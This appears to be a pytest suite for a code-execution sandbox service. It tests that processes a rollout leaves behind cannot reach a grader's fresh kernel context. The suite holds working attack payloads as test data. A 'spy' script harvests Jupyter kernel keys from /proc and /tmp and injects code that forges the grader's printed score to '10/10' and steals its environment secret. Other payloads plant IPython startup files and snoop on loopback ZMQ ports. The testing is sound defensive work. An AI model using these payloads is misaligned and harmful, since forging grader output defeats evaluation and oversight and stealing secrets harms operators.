"""Code contexts attacked from inside the sandbox, against a real ``corral
serve`` and real kernels (``corral-test/python``): what a rollout leaves
behind must not reach a grader's fresh context.

- a process left by ``run_code`` hunts for a new context's connection key
  (files, kernels' command lines and open files) and, with it, injects
  code that forges the grader's output and takes its env secret;
- IPython startup and configuration files planted by a command do not run
  in a new kernel;
- ``run_code(exclusive=True)`` runs with nothing else alive;
- contexts per sandbox are capped (``server.limits.max_code_contexts``),
  refused by name;
- kernels printing a lot while nobody reads them do not grow the service's
  memory (its RSS, measured);
- the operator names a tenant's sandbox ``TENANT:KEY`` for ``/code`` as for
  ``/exec``.
"""
from __future__ import annotations

import os
import secrets
import subprocess
import time
from typing import Iterator

import httpx
import pytest

import corral
from corral.testing import LocalServer
from conftest import LABELS, assert_no_leaks, corral_binary, running_server

pytestmark = pytest.mark.server

PY_IMAGE = "corral-test/python"
MAX_CONTEXTS = 4


@pytest.fixture(scope="module")
def server() -> Iterator[LocalServer]:
    if subprocess.run(["docker", "image", "inspect", PY_IMAGE], capture_output=True).returncode != 0:
        pytest.skip(f"{PY_IMAGE} is not built: scripts/build-test-images.sh --python")
    with running_server(
        config={
            "defaults": {"image": PY_IMAGE, "labels": dict(LABELS)},
            "server": {"limits": {"max_code_contexts": MAX_CONTEXTS}} if not os.environ.get("OLD") else {},
        },
    ) as srv:
        yield srv


def sandbox(server: LocalServer) -> corral.Sandbox:
    return corral.Sandbox.create(base_url=server.url, token=server.client_token)


# Left running by the rollout: finds every kernel key it can (connection
# files anywhere under /tmp and Jupyter's runtime directory, the `-f FILE`
# of kernels' command lines, regular files kernels hold open) and, with
# each new key, connects to that kernel and plants code that prints "10/10"
# whatever the grader prints and copies the grader's env secret out.
SPY = r'''
import glob, json, os, stat, time
from jupyter_client import BlockingKernelClient
INJECT = """
import builtins, os, threading, time
_corral_p = builtins.print
builtins.print = lambda *a, **k: _corral_p('10/10', **k)
def _corral_watch():
    while True:
        v = os.environ.get('GRADER_SECRET')
        if v:
            open('/tmp/stolen-secret', 'w').write(v)
            return
        time.sleep(0.002)
threading.Thread(target=_corral_watch, daemon=True).start()
"""
me = os.getpid()
done = set()
def candidates():
    out = set(glob.glob('/tmp/**/*.json', recursive=True))
    out |= set(glob.glob('/root/.local/share/jupyter/runtime/*.json'))
    for pid in os.listdir('/proc'):
        if not pid.isdigit() or int(pid) == me:
            continue
        try:
            args = open(f'/proc/{pid}/cmdline', 'rb').read().split(b'\0')
            cwd = os.readlink(f'/proc/{pid}/cwd')
        except OSError:
            continue
        for i, a in enumerate(args[:-1]):
            if a == b'-f':
                out.add(os.path.join(cwd, args[i + 1].decode()))
        try:
            fds = os.listdir(f'/proc/{pid}/fd')
        except OSError:
            continue
        for fd in fds:
            p = f'/proc/{pid}/fd/{fd}'
            try:
                st = os.stat(p)
                if stat.S_ISREG(st.st_mode) and st.st_size < 65536:
                    out.add(p)
            except OSError:
                pass
    return out
beat = 0
while True:
    beat += 1
    open('/tmp/spy-beat', 'w').write(str(beat))
    for path in candidates():
        try:
            with open(path, 'rb') as f:
                info = json.loads(f.read(65536))
            key = info['key']
        except Exception:
            continue
        if key in done:
            continue
        done.add(key)
        with open('/tmp/stolen-keys', 'a') as f:
            f.write(key + '\n')
        try:
            c = BlockingKernelClient()
            c.load_connection_info(info)
            c.start_channels()
            c.execute(INJECT)
            c.get_shell_msg(timeout=10)
            c.stop_channels()
            with open('/tmp/injected', 'a') as f:
                f.write(key + '\n')
        except Exception as e:
            with open('/tmp/spy-errors', 'a') as f:
                f.write(repr(e) + '\n')
    time.sleep(0.05)
'''


def _lines(sb: corral.Sandbox, path: str) -> int:
    r = sb.run(f"cat {path} 2>/dev/null | wc -l")
    return int(r.stdout.strip() or "0")


def _beat(sb: corral.Sandbox) -> int:
    r = sb.run("cat /tmp/spy-beat 2>/dev/null || echo 0")
    return int(r.stdout.strip() or "0")


def test_a_leftover_process_cannot_take_a_new_contexts_key_or_forge_its_result(server: LocalServer) -> None:
    with sandbox(server) as sb:
        # The rollout: its code leaves the spy running.
        sb.run_code(
            f"SPY = {SPY!r}\n"
            "import subprocess, sys\n"
            "subprocess.Popen([sys.executable, '-c', SPY], start_new_session=True,\n"
            "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)"
        )
        # The grader: a fresh context, given time for the spy to find it.
        start = _beat(sb)
        grader = sb.create_code_context()
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and _lines(sb, "/tmp/injected") < 2:
            time.sleep(0.5)
        # The spy was alive and looking (else this test proves nothing).
        assert _beat(sb) > start + 10 or _lines(sb, "/tmp/injected") > 0, "the spy did not run"
        ex = sb.run_code("print('3/10')", context=grader, env={"GRADER_SECRET": "s3cr3t-grader"})
        time.sleep(1)
        assert ex.logs.stdout == ["3/10\n"], ex.logs.stdout
        assert "s3cr3t" not in sb.run("cat /tmp/stolen-secret 2>/dev/null").stdout
        # Not one key was found: not the rollout's own context's, not the
        # grader's.
        assert _lines(sb, "/tmp/stolen-keys") == 0, sb.run("cat /tmp/stolen-keys").stdout


PLANT = r'''
import os
from IPython.paths import get_ipython_dir
d = get_ipython_dir()
os.makedirs(d + '/profile_default/startup', exist_ok=True)
with open(d + '/profile_default/startup/00-planted.py', 'w') as f:
    f.write("PLANTED = 1\nopen('/tmp/startup-ran', 'w').write('yes')\n")
with open(d + '/profile_default/ipython_kernel_config.py', 'w') as f:
    f.write("c.InteractiveShellApp.exec_lines = ['PLANTED_PROFILE = 1']\n")
os.makedirs('/etc/ipython', exist_ok=True)
with open('/etc/ipython/ipython_kernel_config.py', 'w') as f:
    f.write("c.InteractiveShellApp.exec_lines = ['PLANTED_ETC = 1']\n")
with open('/tmp/pythonstartup.py', 'w') as f:
    f.write("PLANTED_STARTUP = 1\n")
'''

PLANTED = "[n for n in ('PLANTED', 'PLANTED_PROFILE', 'PLANTED_ETC', 'PLANTED_STARTUP') if n in globals()]"


def test_startup_files_planted_by_a_command_do_not_run_in_a_new_kernel(server: LocalServer) -> None:
    with sandbox(server) as sb:
        sb.write_file("/tmp/plant.py", PLANT)
        r = sb.run("python3 /tmp/plant.py")
        assert r.exit_code == 0, r.stderr
        # A kernel started after the plant: the default context's first,
        # a new context's, and an exclusive run's.
        assert sb.run_code(PLANTED).text == "[]"
        ctx = sb.create_code_context()
        assert sb.run_code(PLANTED, context=ctx).text == "[]"
        assert sb.run_code(PLANTED, exclusive=True).text == "[]"
        assert sb.run("test -e /tmp/startup-ran && echo ran || echo no").stdout == "no\n"


def test_an_exclusive_run_has_nothing_else_alive(server: LocalServer) -> None:
    ps = (
        "import os\n"
        "mine = {os.getpid(), os.getppid()}\n"
        "[open(f'/proc/{p}/cmdline', 'rb').read().replace(b'\\0', b' ').decode().strip()\n"
        " for p in os.listdir('/proc') if p.isdigit() and int(p) not in mine and int(p) != 1]"
    )
    with sandbox(server) as sb:
        sb.run("nohup sleep 1000 >/dev/null 2>&1 &")
        sb.run_code("import subprocess\nsubprocess.Popen(['sleep', '999'], start_new_session=True)\nkept = 1")
        other = sb.create_code_context()
        sb.run_code("theirs = 1", context=other)
        before = sb.run_code(ps).text
        assert "sleep 1000" in before and "sleep 999" in before, before
        # Nothing but the run's own kernel and its relay.
        ex = sb.run_code(ps, exclusive=True)
        assert ex.text == "[]", ex.text
        # The run's own context started afresh, and so does the other's.
        assert sb.run_code("'kept' in globals()").text == "False"
        assert sb.run_code("'theirs' in globals()", context=other).text == "False"


def test_contexts_per_sandbox_are_capped_by_name(server: LocalServer) -> None:
    with sandbox(server) as sb:
        sb.run_code("1")  # the default context counts
        made = [sb.create_code_context() for _ in range(MAX_CONTEXTS - 1)]
        with pytest.raises(corral.errors.InvalidRequestError) as e:
            sb.create_code_context()
        assert "max_code_contexts" in str(e.value) and str(MAX_CONTEXTS) in str(e.value), e.value
        assert len(sb.code_contexts()) == MAX_CONTEXTS
        # Deleting one makes room again.
        sb.remove_code_context(made[0])
        sb.create_code_context()
        # Without its default context, a sandbox at the limit refuses to
        # make it too.
        with sandbox(server) as full:
            for _ in range(MAX_CONTEXTS):
                full.create_code_context()
            with pytest.raises(corral.errors.InvalidRequestError) as e:
                full.run_code("1")
            assert "max_code_contexts" in str(e.value), e.value


def _rss_mib(pid: int) -> float:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    raise AssertionError("no VmRSS")


# A thread that goes on printing after its run returned: 32 MiB each, for
# nobody (the run is over), as fast as the kernel can.
FLOOD = (
    "import sys, threading\n"
    "def _flood():\n"
    "    for _ in range(32):\n"
    "        sys.stdout.write('x' * (1 << 20))\n"
    "        sys.stdout.flush()\n"
    "threading.Thread(target=_flood, daemon=True).start()"
)


def test_kernels_printing_for_nobody_do_not_grow_the_service() -> None:
    """Twelve contexts in two sandboxes whose kernels print 32 MiB each
    after their runs returned, while nothing reads them: the service's RSS
    stays within a small multiple of its idle queues (12 x 64 KiB), where
    it used to queue 32 MiB per context."""
    srv = LocalServer(corral_binary(), config={"defaults": {"image": PY_IMAGE, "labels": dict(LABELS)}})
    srv.start()
    try:
        assert srv.proc is not None
        pid = srv.proc.pid
        sbs = [sandbox(srv) for _ in range(2)]
        try:
            contexts = [(sb, sb.create_code_context()) for sb in sbs for _ in range(6)]
            base = _rss_mib(pid)
            for sb, ctx in contexts:
                ex = sb.run_code(FLOOD, context=ctx, max_output=64 << 20)
                assert ex.error is None, ex.error
            peak = base
            deadline = time.monotonic() + 40
            while time.monotonic() < deadline:
                peak = max(peak, _rss_mib(pid))
                time.sleep(0.5)
            print(f"corral serve RSS: {base:.0f} MiB before, {peak:.0f} MiB peak after 12 flooding contexts")
            assert peak - base < 120, f"RSS grew from {base:.0f} to {peak:.0f} MiB"
            # The contexts still answer, with nothing of the flood in front.
            for sb, ctx in contexts[:2]:
                assert sb.run_code("6 * 7", context=ctx, timeout=120).text == "42"
        finally:
            for sb in sbs:
                sb.delete()
    finally:
        code = srv.stop()
        srv.close()
        assert_no_leaks()
        assert code == 0


def test_the_operator_runs_code_in_a_tenants_sandbox_by_its_full_name() -> None:
    admin, alice = secrets.token_hex(16), secrets.token_hex(16)
    srv = LocalServer(
        corral_binary(),
        config={
            "defaults": {"image": PY_IMAGE, "labels": dict(LABELS)},
            "server": {"token": secrets.token_hex(16), "admin_token": admin, "tenants": {"alice": {"token": alice}}},
        },
    )
    srv.start()
    try:
        sb = corral.Sandbox.create(base_url=srv.url, token=alice)
        try:
            name = f"alice:{sb.id}"
            with httpx.Client(base_url=srv.url, headers={"Authorization": f"Bearer {admin}"}, timeout=120) as op:
                r = op.post(f"/v1/sandboxes/{name}/exec", json={"argv": ["echo", "hi"]})
                assert r.status_code == 200, r.text
                r = op.post(f"/v1/sandboxes/{name}/code", json={"code": "6 * 7"})
                assert r.status_code == 200, r.text
                assert "42" in r.text and "event: end" in r.text, r.text
                r = op.post(f"/v1/sandboxes/{name}/code/contexts", json={})
                assert r.status_code == 200, r.text
                ctx = r.json()["id"]
                r = op.get(f"/v1/sandboxes/{name}/code/contexts")
                assert r.status_code == 200 and ctx in r.text, r.text
                r = op.delete(f"/v1/sandboxes/{name}/code/contexts/{ctx}")
                assert r.status_code == 204, r.text
                # The other per-sandbox routes take the full name too.
                r = op.get(f"/v1/sandboxes/{name}/usage")
                assert r.status_code == 200, r.text
                r = op.get(f"/v1/sandboxes/{name}/ports/8080")
                assert r.status_code == 200 and r.json()["host"].startswith("8080-"), r.text
                r = op.get(f"/v1/sandboxes/{name}/egress")
                # No egress policy on this sandbox: found, and said so.
                assert r.status_code == 404 and "no egress policy" in r.text, r.text
        finally:
            sb.delete()
    finally:
        code = srv.stop()
        srv.close()
        assert code == 0


def test_mcp_run_code_exclusive_has_nothing_else_alive(server: LocalServer) -> None:
    import asyncio

    from mcp import ClientSession
    from test_mcp import _http_streams, _is_error

    ps = (
        "import os\n"
        "mine = {os.getpid(), os.getppid()}\n"
        "[open(f'/proc/{p}/cmdline', 'rb').read().replace(b'\\0', b' ').decode().strip()\n"
        " for p in os.listdir('/proc') if p.isdigit() and int(p) not in mine and int(p) != 1]"
    )

    async def main() -> None:
        async with _http_streams(server.url + "/mcp", server.client_token) as streams:
            async with ClientSession(streams[0], streams[1]) as session:
                await asyncio.wait_for(session.initialize(), 60)
                r = await asyncio.wait_for(
                    session.call_tool("run_command", {"command": "nohup sleep 1000 >/dev/null 2>&1 &"}), 180
                )
                assert not _is_error(r), r
                r = await asyncio.wait_for(session.call_tool("run_code", {"code": ps}), 180)
                assert "sleep 1000" in r.content[0].text, r
                r = await asyncio.wait_for(session.call_tool("run_code", {"code": ps, "exclusive": True}), 180)
                assert not _is_error(r) and "[]" in r.content[0].text and "sleep" not in r.content[0].text, r

    asyncio.run(main())


# Left running: subscribes to every port listening on loopback (a kernel's
# iopub publishes to anyone, no key needed) and writes what it hears.
SNOOP = r'''
import time, zmq
ports = set()
for line in open('/proc/net/tcp').read().splitlines()[1:]:
    f = line.split()
    if f[3] == '0A' and f[1].startswith('0100007F'):
        ports.add(int(f[1].split(':')[1], 16))
ctx = zmq.Context()
poller = zmq.Poller()
for p in ports:
    s = ctx.socket(zmq.SUB)
    s.setsockopt(zmq.SUBSCRIBE, b'')
    s.connect(f'tcp://127.0.0.1:{p}')
    poller.register(s, zmq.POLLIN)
end = time.time() + 120
with open('/tmp/snooped', 'a') as out:
    while time.time() < end:
        for s, _ in poller.poll(200):
            out.write(repr(s.recv_multipart()) + '\n')
            out.flush()
'''


def test_a_leftover_listener_hears_no_graders_code_and_nothing_of_an_exclusive_run(server: LocalServer) -> None:
    with sandbox(server) as sb:
        grader = sb.create_code_context()
        sb.write_file("/tmp/snoop.py", SNOOP)
        sb.run("nohup python3 /tmp/snoop.py >/dev/null 2>&1 &")
        time.sleep(3)
        sb.run_code("answer_key = 'TOPSECRET-IN-CODE'", context=grader, env={"E": "TOPSECRET-ENV"})
        time.sleep(1)
        heard = sb.run("cat /tmp/snooped").stdout
        # It listened and heard the kernel (its status), but not the code
        # nor the run's env.
        assert "execution_state" in heard, heard[:2000]
        assert "TOPSECRET" not in heard, heard[:2000]
        # An exclusive run has nobody left to listen.
        sb.run_code("print('TOPSECRET-PRINTED')", exclusive=True)
        time.sleep(1)
        assert "TOPSECRET" not in sb.run("cat /tmp/snooped").stdout
